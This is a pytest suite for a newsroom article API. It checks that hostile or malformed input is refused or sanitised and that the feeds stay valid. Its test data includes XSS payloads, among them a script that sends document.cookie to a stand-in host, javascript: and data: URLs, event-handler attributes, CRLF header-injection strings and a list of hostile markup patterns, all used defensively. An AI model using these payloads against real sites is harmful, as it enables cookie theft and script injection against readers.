"""Hostile and malformed articles over HTTP: each is refused or made harmless.

Refused: a 4xx whose JSON ``detail`` names the field and the rule, and nothing changed —
the same articles, no new outbox event, no new tag, the same feed bytes. Accepted: the
hostile part is gone from what is stored and served (DESIGN.md: "Characters XML forbids
are removed before they are stored"; HTML goes through nh3), and every feed still parses.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Iterator
from functools import partial
from typing import Any

import feedparser
import httpx
import pytest
from sqlalchemy import func, select

from newsroom.db import session_scope
from newsroom.models import Article, OutboxEvent, Tag
from tests.support import ADMIN, Server, article, wait_for
from web.partners import encode_cursor

pytestmark = pytest.mark.usefixtures("celery_worker")

SEED = "personliga-moten-starker-det-nordiska-samarbetet"  # the slug article() gets
MiB = 1024 * 1024
MAX_REQUEST = 8 * MiB  # config: BUDKAVLE_MAX_REQUEST_BYTES default
JSON_HEADERS = {**ADMIN, "Content-Type": "application/json"}

# What XML 1.0 forbids (C0 controls but tab, LF, CR; lone surrogates; U+FFFE, U+FFFF),
# and C1 controls: none of it may be stored.
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
# Markup that must not survive in a stored or served body, raw or escaped.
HOSTILE = (
    "<script", "&lt;script", "<iframe", "&lt;iframe", "<style", "&lt;style", "<svg",
    "&lt;svg", "javascript:", "onerror", "onload", "onclick", "alert(",
)  # fmt: skip


def words(repeat: int) -> str:
    """A long body of real words: "Älvdalen " is 9 characters and 10 bytes in UTF-8."""
    return "<p>" + "Älvdalen " * repeat + "</p>"


def raw_json(**overrides: str) -> bytes:
    """An article as JSON text, with values spliced in verbatim: a lone surrogate can only
    be sent this way (httpx's json= cannot encode one).
    """
    text = json.dumps(article(**{key: f"@{key}@" for key in overrides}), ensure_ascii=False)
    for key, value in overrides.items():
        text = text.replace(f'"@{key}@"', value)
    return text.encode()


def chunks(body: bytes, size: int = MiB) -> Iterator[bytes]:
    """A body sent chunked: no Content-Length for the server to refuse up front."""
    for start in range(0, len(body), size):
        yield body[start : start + size]


# --- refused: a 4xx naming the field, and nothing changed -------------------------------


@dataclasses.dataclass(frozen=True)
class Refused:
    id: str
    status: int
    field: str  # the field the error must name
    says: str  # part of the message: the rule that was broken
    json: Any = None  # sent with json=
    content: bytes | None = None  # or sent as these bytes
    chunked: bool = False  # the bytes without a Content-Length
    method: str = "POST"
    path: str = "/api/articles"
    headers: dict[str, str] = dataclasses.field(default_factory=lambda: dict(JSON_HEADERS))


def _article_without(key: str) -> dict[str, Any]:
    payload = article()
    del payload[key]
    return payload


OVER_LIMIT = json.dumps(article(body_html=words(1_000_000)), ensure_ascii=False).encode()
assert len(OVER_LIMIT) > MAX_REQUEST

REFUSED = [
    # Titles are one line: a line break in a title is a header injection in an email
    # subject (RFC 5322 §2.2: a header field ends at CRLF).
    Refused("title-crlf-header-injection", 422, "title", "must be one line, got 2",
            json=article(title="Rubrik\r\nBcc: x@example.com")),
    Refused("title-lf", 422, "title", "must be one line, got 2",
            json=article(title="Nordiskt samarbete\nstärks i Borlänge")),
    Refused("title-lone-cr", 422, "title", "must be one line, got 2",
            json=article(title="Nordiskt samarbete\rstärks i Borlänge")),
    Refused("title-line-separator-u2028", 422, "title", "must be one line, got 3",
            json=article(title="Möte i Umeå\u2028Beslut i Luleå\u2029Protest i Kiruna")),
    Refused("title-only-whitespace", 422, "title", "must not be empty",
            json=article(title=" \t\u00a0\u3000 ")),
    Refused("title-only-control-characters", 422, "title", "must not be empty",
            json=article(title="\x00\x01\x1b\x7f")),
    Refused("title-400-characters", 422, "title", "must be at most 300 characters, got 400",
            json=article(title="Å" * 400)),
    Refused("title-missing", 422, "title", "Field required", json=_article_without("title")),
    Refused("title-null", 422, "title", "valid string", json=article(title=None)),
    Refused("title-a-number", 422, "title", "valid string", json=article(title=2026)),
    # Bodies
    Refused("body-html-only-a-script", 422, "body_html", "no text left after sanitising",
            json=article(body_markdown=None, body_html="<script>alert('hej')</script>")),
    Refused("body-markdown-only-a-script", 422, "body_markdown",
            "no text left after sanitising",
            json=article(body_markdown="<script>alert('hej')</script>\n\n<style>p{}</style>")),
    Refused("both-bodies", 422, "body", "give exactly one of body_html and body_markdown",
            json=article(body_html="<p>Hej från Falun.</p>")),
    Refused("neither-body", 422, "body", "give exactly one of body_html and body_markdown",
            json=_article_without("body_markdown")),
    Refused("body-html-5-mb", 422, "body_html", "must be at most 1048576 bytes, got 5200007",
            json=article(body_markdown=None, body_html=words(520_000))),
    Refused("body-markdown-5-mb", 422, "body_markdown",
            "must be at most 1048576 bytes, got 5200000",
            json=article(body_markdown="Älvdalen " * 520_000)),
    Refused("summary-5-mb", 422, "summary", "must be at most 2000 characters",
            json=article(summary="Älvdalen " * 520_000)),
    # The request body itself
    Refused("request-over-8-mib", 413, "body", f"request body over {MAX_REQUEST} bytes",
            content=OVER_LIMIT),
    Refused("request-over-8-mib-chunked", 413, "body", f"request body over {MAX_REQUEST} bytes",
            content=OVER_LIMIT, chunked=True),
    Refused("invalid-json", 422, "body", "must be valid JSON",
            content=b'{"title": "Valet i \xc3\x85re", "language": "sv",'),
    Refused("utf16-byte-order-mark-only", 422, "body", "must be valid JSON",
            content=b"\xff\xfe"),
    Refused("windows-1252-not-utf8", 422, "body", "must be JSON encoded as UTF-8",
            content=json.dumps(article(), ensure_ascii=False).encode("cp1252")),
    Refused("json-array", 422, "body", "valid dictionary",
            content=json.dumps([article()]).encode()),
    Refused("json-string", 422, "body", "valid dictionary", content=b'"Hej Borl\\u00e4nge"'),
    Refused("empty-body", 422, "body", "Field required", content=b""),
    Refused("nested-100000-deep", 422, "body", "must be JSON nested less deeply",
            content=b'{"tags": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    # Language
    Refused("language-unknown-xx", 422, "language", "unknown language 'xx'",
            json=article(language="xx")),
    Refused("language-a-number", 422, "language", "valid string", json=article(language=46)),
    Refused("language-lone-surrogate", 422, "language", "unknown language",
            content=raw_json(language='"s\\ud800v"')),
    # Tags and authors
    Refused("tags-a-string", 422, "tags", "valid list", json=article(tags="Borlänge")),
    Refused("tag-only-punctuation", 422, "tags", "has no letters or digits",
            json=article(tags=["Borlänge", "!?–…"])),
    Refused("tags-25-over-the-limit", 422, "tags", "at most 20 items",
            json=article(tags=[f"Kommun {n}" for n in range(25)])),
    Refused("tag-with-newline", 422, "tags.1", "must be one line, got 2",
            json=article(tags=["Borlänge", "Nordiskt\nsamarbete"])),
    Refused("author-with-newline", 422, "authors.0", "must be one line, got 2",
            json=article(authors=["Åsa Lindqvist\r\nBcc: x@example.com"])),
    Refused("authors-a-string", 422, "authors", "valid list",
            json=article(authors="Åsa Lindqvist")),
    # URLs
    Refused("image-url-javascript", 422, "image.url", "absolute http:// or https:// URL",
            json=article(image={"url": "javascript:alert(1)", "alt": "Stadshuset"})),
    Refused("image-url-relative", 422, "image.url", "absolute http:// or https:// URL",
            json=article(image={"url": "/bilder/borlange-hjelm.jpg", "alt": "Stadshuset"})),
    Refused("image-url-lone-surrogate", 422, "image.url", "control characters",
            content=raw_json(image='{"url": "https://bilder.nyheter.example/\\ud800.jpg"}')),
    Refused("image-onerror-key", 422, "image.onerror", "Extra inputs are not permitted",
            json=article(image={"url": "https://bilder.nyheter.example/a.jpg",
                                "onerror": "alert(1)"})),
    Refused("canonical-url-ftp", 422, "canonical_url", "absolute http:// or https:// URL",
            json=article(canonical_url="ftp://nyheter.example/borlange.txt")),
    Refused("canonical-url-crlf", 422, "canonical_url", "control characters",
            json=article(canonical_url="https://nyheter.example/a\r\nSet-Cookie: x=1")),
    Refused("canonical-url-ufffe", 422, "canonical_url", "control characters",
            json=article(canonical_url="https://nyheter.example/borl\ufffeange")),
    # Dates
    Refused("published-at-month-13", 422, "published_at", "valid datetime",
            json=article(published_at="2026-13-45")),
    Refused("published-at-a-number", 422, "published_at", "must be an ISO 8601 date",
            json=article(published_at=1_795_000_000)),
    Refused("published-at-year-1800", 422, "published_at", "must be between 1970 and 2100",
            json=article(published_at="1800-05-17T09:00:00+01:00")),
    Refused("published-at-lone-surrogate", 422, "published_at", "valid string",
            content=raw_json(published_at='"2026-11-26T09:30\\udc00"')),
    # Unknown fields and values
    Refused("unknown-field", 422, "priority", "Extra inputs are not permitted",
            json=article(priority="hög")),
    Refused("status-retracted", 422, "status", "'published' or 'draft'",
            json=article(status="retracted")),
    # Slugs
    Refused("slug-only-punctuation", 422, "slug", "must contain letters or digits",
            json=article(slug="!!!–???")),
    Refused("slug-taken", 409, "slug", f"'{SEED}' is taken",
            json=article(title="Ny rubrik om Borlänge", slug=SEED)),
    Refused("slug-taken-spelled-differently", 409, "slug", f"'{SEED}' is taken",
            json=article(slug="Personliga möten stärker det nordiska samarbetet")),
    # Who may ask, and what exists
    Refused("no-authorization", 401, "Authorization", "missing or wrong admin token",
            json=article(), headers={}),
    Refused("wrong-token", 401, "Authorization", "missing or wrong admin token",
            json=article(), headers={"Authorization": "Bearer test-admin-token-not"}),
    Refused("basic-not-bearer", 401, "Authorization", "missing or wrong admin token",
            json=article(), headers={"Authorization": "Basic dGVzdC1hZG1pbi10b2tlbjo="}),
    Refused("retract-without-token", 401, "Authorization", "missing or wrong admin token",
            method="DELETE", path=f"/api/articles/{SEED}", headers={}),
    Refused("put-unknown-slug", 404, "slug", "no article 'finns-inte'",
            json=article(), method="PUT", path="/api/articles/finns-inte"),
    Refused("delete-unknown-slug", 404, "slug", "no article 'finns-inte'",
            method="DELETE", path="/api/articles/finns-inte"),
    Refused("put-changes-the-slug", 400, "slug", f"cannot change from '{SEED}'",
            json=article(slug="en-annan-adress"), method="PUT", path=f"/api/articles/{SEED}"),
    Refused("put-title-crlf", 422, "title", "must be one line, got 2",
            json=article(title="Rubrik\r\nBcc: x@example.com"),
            method="PUT", path=f"/api/articles/{SEED}"),
]  # fmt: skip


def problems(response: httpx.Response) -> dict[str, str]:
    """The API's errors as {field: message}."""
    assert response.headers["content-type"] == "application/json", response.text
    detail = response.json()["detail"]
    if response.status_code == 401:  # a plain message from the bearer check; it names the header
        assert isinstance(detail, str), detail
        return {"Authorization": detail} if "Authorization: Bearer" in detail else {}
    assert isinstance(detail, list) and detail, detail
    return {item["field"]: item["msg"] for item in detail}


def state(server: Server) -> dict[str, Any]:
    """Everything a refused request must leave as it was."""
    listed = server.client.get("/api/articles", headers=ADMIN)
    assert listed.status_code == 200, listed.text
    with session_scope() as session:
        events = session.scalar(select(func.count()).select_from(OutboxEvent))
        tags = sorted(session.scalars(select(Tag.slug)))
    return {
        "articles": listed.json(),
        "events": events,
        "tags": tags,
        "feed": server.client.get("/feeds/all.atom").headers.get("etag"),
    }


def send(server: Server, case: Refused) -> httpx.Response:
    if case.json is not None:
        return server.client.request(case.method, case.path, json=case.json,
                                     headers=case.headers)  # fmt: skip
    content = chunks(case.content or b"") if case.chunked else case.content
    return server.client.request(case.method, case.path, content=content, headers=case.headers)


@pytest.mark.parametrize("case", REFUSED, ids=[case.id for case in REFUSED])
def test_refused_with_the_field_named_and_nothing_changed(server: Server, case: Refused) -> None:
    seeded = server.client.post("/api/articles", json=article(), headers=ADMIN)
    assert seeded.status_code == 201, seeded.text
    assert seeded.json()["slug"] == SEED
    title = seeded.json()["title"]
    wait_for(lambda: entry_titles(server, "all.atom") == [title], what="the seed in the feed")
    before = state(server)

    response = send(server, case)

    assert response.status_code == case.status, response.text
    named = problems(response)
    assert case.field in named, named
    assert case.says in named[case.field], named
    if case.status == 401:  # RFC 9110 §11.6.1: a 401 says which scheme to use
        assert response.headers["www-authenticate"] == "Bearer"
    assert state(server) == before


def test_header_injection_in_a_title_never_reaches_storage(server: Server) -> None:
    injected = "Rubrik\r\nBcc: x@example.com"
    created = server.client.post("/api/articles", json=article(), headers=ADMIN)
    assert created.status_code == 201, created.text

    for method, path in (("POST", "/api/articles"), ("PUT", f"/api/articles/{SEED}")):
        response = server.client.request(method, path, json=article(title=injected), headers=ADMIN)
        assert response.status_code == 422, response.text
        assert problems(response) == {"title": "must be one line, got 2"}

    with session_scope() as session:
        titles = list(session.scalars(select(Article.title)))
    assert titles == ["Personliga möten stärker det nordiska samarbetet"]
    assert not any("Bcc" in title or "\r" in title or "\n" in title for title in titles)


# --- accepted: the hostile part removed, every feed still valid --------------------------


@dataclasses.dataclass(frozen=True)
class Sanitised:
    id: str
    title: str  # the title as stored
    json: Any = None
    content: bytes | None = None
    kept: tuple[str, ...] = ()  # in the stored body_html
    gone: tuple[str, ...] = ()  # in nothing stored or served
    shown: dict[str, Any] = dataclasses.field(default_factory=dict)  # fields as served


SANITISED = [
    Sanitised("script-in-body-html", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  "<p>Kommunen satsar på trygghet i Borlänge.</p>"
                  "<script>document.location='https://ond.example/?c='+document.cookie"
                  "</script>")),
              kept=("<p>Kommunen satsar på trygghet i Borlänge.</p>",),
              gone=("document.cookie", "ond.example")),
    Sanitised("script-uppercase-with-src", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  "<p>Älvdalen får ny skola.</p><SCRIPT SRC=//ond.example/x.js></SCRIPT>")),
              kept=("<p>Älvdalen får ny skola.</p>",), gone=("ond.example",)),
    Sanitised("img-onerror", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  "<p>Bild från Falun.</p>"
                  '<img src="https://bilder.nyheter.example/falun.jpg" onerror="alert(1)">')),
              kept=('<img src="https://bilder.nyheter.example/falun.jpg">',)),
    Sanitised("a-href-javascript", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  '<p><a href="javascript:alert(document.cookie)">Läs mer</a> om Borlänge.'
                  '</p><p><a href=" JaVa&#x09;ScRiPt:alert(2)">Och här</a>.</p>')),
              kept=("Läs mer</a> om Borlänge.", "Och här</a>.")),
    Sanitised("a-href-data-url", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
                  "Röstlängd</a> för Kiruna.</p>")),
              kept=("Röstlängd</a> för Kiruna.",), gone=("data:", "base64")),
    Sanitised("iframe", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  "<p>Se klippet från fullmäktige i Luleå.</p>"
                  '<iframe src="https://ond.example/klipp"></iframe>')),
              kept=("<p>Se klippet från fullmäktige i Luleå.</p>",), gone=("ond.example",)),
    Sanitised("style-element-and-attribute", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  "<style>body { display: none }</style>"
                  '<p style="position:fixed;top:0">Röd dag i Umeå.</p>')),
              kept=("<p>Röd dag i Umeå.</p>",), gone=("display", "position:fixed")),
    Sanitised("svg-with-script", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  "<p>Ny logotyp för Tórshavn.</p>"
                  '<svg onload="alert(1)"><script>alert(2)</script></svg>')),
              kept=("<p>Ny logotyp för Tórshavn.</p>",)),
    Sanitised("event-handler-and-comment", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=None, body_html=(
                  '<p onclick="alert(1)">Sametinget väljer ordförande.</p>'
                  "<!-- <script>alert(2)</script> -->")),
              kept=("<p>Sametinget väljer ordförande.</p>",), gone=("<!--",)),
    Sanitised("markdown-with-raw-script", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown=(
                  "Stadsfullmäktige i Luleå möttes i går.\n\n"
                  "<script>alert('hej')</script>\n\n"
                  '<a href="javascript:alert(1)">Läs mer</a> om beslutet.')),
              kept=("<p>Stadsfullmäktige i Luleå möttes i går.</p>", "Läs mer</a>")),
    Sanitised("control-characters-everywhere", "Ny rubrik om Tórshavn",
              json=article(
                  title="Ny\x00 rubrik\x07 om\x1b Tórshavn\x7f",
                  summary="Sammanfattning\x00 med\x08 kontrolltecken\x1f.",
                  body_markdown=None,
                  body_html="<p>Text\x00 med\x08 kontrolltecken\x0b i Västerås.</p>",
                  tags=["Nordiskt\x00 samarbete"], authors=["Åsa\x01 Lindqvist"],
                  image={"url": "https://bilder.nyheter.example/a.jpg",
                         "alt": "Stadshuset\x00", "caption": "Foto:\x1b Jan Öberg"}),
              kept=("<p>Text med kontrolltecken i Västerås.</p>",),
              shown={"summary": "Sammanfattning med kontrolltecken.",
                     "tags": ["Nordiskt samarbete"], "authors": ["Åsa Lindqvist"],
                     "image": {"url": "https://bilder.nyheter.example/a.jpg",
                               "alt": "Stadshuset", "caption": "Foto: Jan Öberg"}}),
    Sanitised("nul-in-body-markdown", "Personliga möten stärker det nordiska samarbetet",
              json=article(body_markdown="Röstlängden\x00 i Kiruna\x1f är klar."),
              kept=("<p>Röstlängden i Kiruna är klar.</p>",)),
    Sanitised("c1-controls-in-title", "Kommunvalet i Malmö avgjort",
              json=article(title="Kommunvalet\x85 i Malmö\x9b avgjort")),
    Sanitised("noncharacters-ufffe-uffff", "Sametinget väljer ordförande",
              json=article(title="Sametinget\ufffe väljer\uffff ordförande",
                           body_markdown="Valet\ufffe hölls i Karasjok\uffff.")),
    Sanitised("lone-surrogate-in-title", "Valet i Åre avgjort",
              content=raw_json(title='"Valet i Åre \\ud800avgjort"')),
    Sanitised("lone-surrogates-in-body-markdown",
              "Personliga möten stärker det nordiska samarbetet",
              content=raw_json(body_markdown='"Valet i \\udc00Åre är \\ud83davgjort."'),
              kept=("<p>Valet i Åre är avgjort.</p>",)),
    Sanitised("lone-surrogates-in-body-html-and-summary",
              "Personliga möten stärker det nordiska samarbetet",
              content=raw_json(body_markdown="null",
                               body_html='"<p>Isen \\udfffsl\\u00e4pper i Torne \\u00e4lv.</p>"',
                               summary='"Isen\\ud800 sl\\u00e4pper."'),
              kept=("<p>Isen släpper i Torne älv.</p>",),
              shown={"summary": "Isen släpper."}),
]  # fmt: skip


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from strings(item)


def stored(slug: str) -> dict[str, Any]:
    """The article row as the database holds it, source body included."""
    with session_scope() as session:
        row = session.scalars(select(Article).where(Article.slug == slug)).one()
        return {
            column.key: getattr(row, column.key)
            for column in Article.__table__.columns
            if column.key not in {"published_at", "created_at", "updated_at", "retracted_at"}
        } | {"tags": [(tag.slug, tag.label) for tag in row.tags]}


def entry_titles(server: Server, path: str) -> list[str]:
    """The titles in a feed, once it exists; it must parse (feedparser: not bozo)."""
    response = server.client.get(f"/feeds/{path}")
    if response.status_code == 404:  # not built yet
        return []
    assert response.status_code == 200, f"{path}: {response.status_code}"
    if path.endswith(".json"):
        return [item["title"] for item in json.loads(response.content)["items"]]
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, f"{path}: {parsed.get('bozo_exception')}"
    return [entry.title for entry in parsed.entries]


def has_entry(server: Server, path: str, title: str) -> bool:
    return title in entry_titles(server, path)


@pytest.mark.parametrize("case", SANITISED, ids=[case.id for case in SANITISED])
def test_accepted_with_the_hostile_part_removed(server: Server, case: Sanitised) -> None:
    if case.json is not None:
        response = server.client.post("/api/articles", json=case.json, headers=ADMIN)
    else:
        response = server.client.post("/api/articles", content=case.content,
                                      headers=JSON_HEADERS)  # fmt: skip
    assert response.status_code == 201, response.text
    slug = response.json()["slug"]

    shown = server.client.get(f"/api/articles/{slug}", headers=ADMIN).json()
    assert shown["title"] == case.title
    for kept in case.kept:
        assert kept in shown["body_html"]
    assert {key: shown[key] for key in case.shown} == case.shown
    row = stored(slug)
    for value in strings(row):
        assert not NOT_XML.search(value), f"stored {value!r}"
    # The served article has no markup left; body_markdown is not served: it is the
    # editor's source, and every reader gets body_html, made from it by the same allow-list.
    for value in strings(shown):
        for bad in (*HOSTILE, *case.gone):
            assert bad not in value.lower(), f"{bad!r} in {value!r}"

    scopes = ["all", f"lang/{shown['language']}", *(f"tags/{tag}" for tag, _ in row["tags"])]
    for path in (f"{scope}.{kind}" for scope in scopes for kind in ("atom", "rss", "json")):
        wait_for(partial(has_entry, server, path, case.title), what=f"the entry in {path}")
        text = server.client.get(f"/feeds/{path}").text.lower()
        for bad in (*HOSTILE, *case.gone):
            assert bad not in text, f"{bad!r} in {path}"


# --- ids and offsets beyond what a column holds: a 4xx on both databases -----------------

# PostgreSQL's INTEGER is 32 bits: a bound value past it is an error there ("integer out of
# range"), where SQLite finds nothing. Each must be a 4xx naming the parameter, never a 500.
TOO_BIG = 2**31
OUT_OF_RANGE = [
    ("GET", f"/api/subscribers?after={24215234298032}", "after"),
    ("GET", f"/api/articles?offset={2**63}", "offset"),
    ("GET", f"/api/articles?offset={TOO_BIG}", "offset"),
    ("GET", f"/api/subscribers/{99999999999}", "subscriber_id"),
    ("DELETE", f"/api/subscribers/{TOO_BIG}", "subscriber_id"),
    ("GET", f"/api/subscribers/{-1}", "subscriber_id"),
    ("GET", f"/api/partners/{TOO_BIG}/deliveries", "partner_id"),
    ("POST", f"/api/partners/{TOO_BIG}/enable", "partner_id"),
    ("POST", f"/api/partners/deliveries/{TOO_BIG}/replay", "delivery_id"),
    ("GET", f"/newsletter/{TOO_BIG}", "segment_id"),
]


@pytest.mark.parametrize(
    ("method", "path", "field"), OUT_OF_RANGE, ids=[case[1] for case in OUT_OF_RANGE]
)
def test_an_id_out_of_its_columns_range_is_a_4xx(
    server: Server, method: str, path: str, field: str
) -> None:
    answer = server.client.request(method, path, headers=ADMIN)
    assert answer.status_code == 422, answer.text
    assert [error["field"] for error in answer.json()["detail"]] == [field]


def test_a_cursor_past_the_positions_column_is_a_4xx(server: Server) -> None:
    partner = server.client.post(
        "/api/partners", headers=ADMIN, json={"name": "Borlänge kommun"}
    ).json()
    answer = server.client.get(
        "/api/partner/articles",
        params={"since": encode_cursor(TOO_BIG)},
        headers={"Authorization": f"Bearer {partner['pull_key']}"},
    )
    assert answer.status_code == 400, answer.text
    assert "cursor" in answer.text
